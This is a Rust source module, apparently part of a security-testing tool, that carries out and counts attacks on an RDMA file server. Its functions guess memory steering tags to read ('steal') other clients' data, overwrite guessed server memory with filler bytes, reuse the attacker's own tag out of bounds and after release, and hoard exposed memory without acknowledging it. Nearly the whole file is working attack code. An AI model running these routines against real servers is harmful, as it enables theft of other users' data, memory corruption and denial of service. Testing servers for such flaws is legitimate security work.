//! Attacks on a server, and their results.

use std::{
    io,
    net::SocketAddr,
    time::{Duration, Instant},
};

use rand_xoshiro::{
    SplitMix64,
    rand_core::{Rng, SeedableRng},
};

use crate::{Event, Files, Peer, Source};

/// Results of attempts to access tags.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Tries {
    /// Number of attempts. Each rejected one costs a connection.
    pub tried: u64,
    /// Attempts that were answered with a Terminate or a closed connection.
    pub refused: u64,
    /// Bytes of the server's memory that were read or written.
    pub bytes: u64,
}

impl Tries {
    fn count(&mut self, bytes: Option<usize>) {
        self.tried += 1;
        match bytes {
            Some(n) => self.bytes += n as u64,
            None => self.refused += 1,
        }
    }
}

/// Pseudo-random numbers from a seed.
fn numbers(seed: u64) -> impl Iterator<Item = u32> {
    let mut random = SplitMix64::seed_from_u64(seed);
    std::iter::repeat_with(move || random.next_u32())
}

/// Reads `count` random tags, each on a new connection.
///
/// # Errors
/// The server cannot be reached, or does not respond.
pub fn guess_reads(addr: SocketAddr, private: &[u8], count: u64, seed: u64) -> io::Result<Tries> {
    let mut tries = Tries::default();
    for tag in numbers(seed).take(usize::try_from(count).unwrap_or(usize::MAX)) {
        let mut files = Files::new(Peer::connect(addr, private)?);
        let stolen = files.steal(Source { tag, length: 4096, offset: 0 })?;
        tries.count(stolen.map(|b| b.len()));
    }
    Ok(tries)
}

/// Writes to `count` random tags, each on a new connection.
///
/// # Errors
/// The server cannot be reached, or does not respond.
pub fn guess_writes(addr: SocketAddr, private: &[u8], count: u64, seed: u64) -> io::Result<Tries> {
    let mut tries = Tries::default();
    for tag in numbers(seed).take(usize::try_from(count).unwrap_or(usize::MAX)) {
        let mut peer = Peer::connect(addr, private)?;
        peer.write(tag, 0, &[0x66; 4096])?;
        // An RDMA Write has no response; an RDMA Read after it is answered if the Write was accepted.
        let ended = loop {
            match peer.event()? {
                Event::Terminate(..) | Event::Closed => break true,
                _ => {}
            }
        };
        tries.count((!ended).then_some(4096));
    }
    Ok(tries)
}

/// Returns the tag of exposed memory that the server gives to the attacker itself, from which others may be
/// guessed.
///
/// # Errors
/// The server cannot be reached, or exposes no memory.
pub fn own_tag(addr: SocketAddr, private: &[u8], export: &str, name: &str) -> io::Result<Source> {
    let mut files = Files::new(Peer::connect(addr, private)?);
    let root = files.mount(export)?;
    let file = files.lookup(&root, name)?;
    files.read(&file, 0, 64 << 10)?.ok_or_else(|| io::ErrorKind::Unsupported.into())
}

/// Reads tags near `own` in order of distance, each on a new connection, until one is answered or after
/// `count` attempts. If a server's tags are consecutive (index and key incremented by one), these are the
/// tags that it assigned just before and after `own`. Also returns the data read.
///
/// # Errors
/// The server cannot be reached, or does not respond.
pub fn guess_near(
    addr: SocketAddr,
    private: &[u8],
    own: u32,
    count: u64,
) -> io::Result<(Tries, Option<Vec<u8>>)> {
    let after = |n: u32| (own >> 8).wrapping_add(n) << 8 | (own.wrapping_add(n) & 0xff);
    let mut tries = Tries::default();
    let near = (1..).flat_map(|n: u32| [after(n.wrapping_neg()), after(n)]);
    for tag in near.take(usize::try_from(count).unwrap_or(usize::MAX)) {
        let mut files = Files::new(Peer::connect(addr, private)?);
        let stolen = files.steal(Source { tag, length: 4096, offset: 0 })?;
        tries.count(stolen.as_ref().map(Vec::len));
        if stolen.is_some() {
            return Ok((tries, stolen));
        }
    }
    Ok((tries, None))
}

/// Reads a region that the server has exposed to *another* connection and whose tag the attacker knows
/// exactly, and tags next to it.
///
/// # Errors
/// The server cannot be reached, or does not respond.
pub fn read_of_another(addr: SocketAddr, private: &[u8], victim: Source) -> io::Result<Tries> {
    let mut tries = Tries::default();
    for change in [0, 1, 0xff, 0x100, 0x200, 0xffff_ff00] {
        let tag = victim.tag.wrapping_add(change);
        let mut files = Files::new(Peer::connect(addr, private)?);
        tries.count(files.steal(Source { tag, ..victim })?.map(|b| b.len()));
    }
    Ok(tries)
}

/// Uses the attacker's own tag beyond its bounds, and after the server has processed the RDMA_DONE.
///
/// # Errors
/// The server cannot be reached, or does not respond.
pub fn reuse(addr: SocketAddr, private: &[u8], export: &str, name: &str) -> io::Result<Tries> {
    let mut tries = Tries::default();
    for beyond in [true, false] {
        let mut files = Files::new(Peer::connect(addr, private)?);
        let root = files.mount(export)?;
        let file = files.lookup(&root, name)?;
        let Some(mut from) = files.read(&file, 0, 64 << 10)? else {
            return Err(io::ErrorKind::Unsupported.into());
        };
        if beyond {
            from.length += 1;
        } else {
            files.done()?;
            // The reply to a later call shows that the server has processed the RDMA_DONE; until then the
            // data may be read.
            files.lookup(&root, name)?;
        }
        tries.count(files.steal(from)?.map(|b| b.len()));
    }
    Ok(tries)
}

/// A client that does not acknowledge exposed memory.
pub struct Hoard {
    files: Files,
    began: Instant,
    /// Number of READs that the server answered with exposed memory.
    pub replies: u64,
    /// Bytes of exposed memory.
    pub bytes: u64,
    /// The first exposed region.
    pub first: Source,
}

/// Reads a file `count` times without acknowledging.
///
/// # Errors
/// The server cannot be reached, or exposes no memory.
pub fn hoard(addr: SocketAddr, private: &[u8], export: &str, name: &str, count: u32) -> io::Result<Hoard> {
    let mut files = Files::new(Peer::connect(addr, private)?);
    let root = files.mount(export)?;
    let file = files.lookup(&root, name)?;
    let began = Instant::now();
    let (mut replies, mut bytes, mut first) = (0, 0, None);
    for _ in 0..count {
        if let Some(source) = files.read(&file, 0, 1 << 20)? {
            replies += 1;
            bytes += u64::from(source.length);
            first.get_or_insert(source);
        }
    }
    let first = first.ok_or(io::ErrorKind::Unsupported)?;
    Ok(Hoard { files, began, replies, bytes, first })
}

impl Hoard {
    /// Waits until the server ends the connection. Returns the duration of the exposure.
    ///
    /// # Errors
    /// The connection is still open after 20 s.
    pub fn wait(mut self) -> io::Result<Duration> {
        loop {
            if matches!(self.files.peer.event()?, Event::Closed | Event::Terminate(..)) {
                return Ok(self.began.elapsed());
            }
        }
    }
}
